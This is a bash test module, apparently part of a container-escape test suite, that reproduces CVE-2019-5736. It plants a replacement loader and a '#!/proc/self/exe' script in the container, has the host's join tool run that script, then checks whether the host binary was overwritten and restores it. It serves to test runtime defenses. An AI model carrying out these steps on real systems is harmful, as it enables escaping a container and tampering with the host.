# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

# What joins is told to execute a script whose interpreter is /proc/self/exe: the joiner's own program, with a loader of the tree's,
# which keeps it open until nobody executes it any more.
WHAT='CVE-2019-5736: the program that joins is opened by /proc/self/exe and written to'

joiner() {
        case $RUNNER in
        nbox*) command -v nbox ;;
        lxc*) command -v lxc-attach ;;
        *) command -v nsenter ;;
        esac
}

setup() {
        bring overwrite
        cp -a "$(joiner)" "$PREY/joiner"
        mkdir -p "$TREE/lib64" "$TREE/lib"
        cp "$ATTACKS/loader" "$TREE/lib64/ld-linux-x86-64.so.2"
        cp "$ATTACKS/loader" "$TREE/lib/ld-linux-aarch64.so.1"
        printf '#!/proc/self/exe\n' >"$TREE/escape/again"
        chmod 755 "$TREE/escape/again"
}

meanwhile() {
        machine_join /escape/again >/dev/null 2>&1 || true
        machine_waits_for "$TREE/escape/overwritten" || true
}

verdict() {
        if cmp -s "$(joiner)" "$PREY/joiner"; then
                blocked "the host's program is as it was ($(cat "$TREE/escape/overwritten" 2>/dev/null || echo "it was not executed inside"))"
        else
                works "the host's program was written to"
        fi
}

undo() { cmp -s "$(joiner)" "$PREY/joiner" || cp --remove-destination -a "$PREY/joiner" "$(joiner)"; }
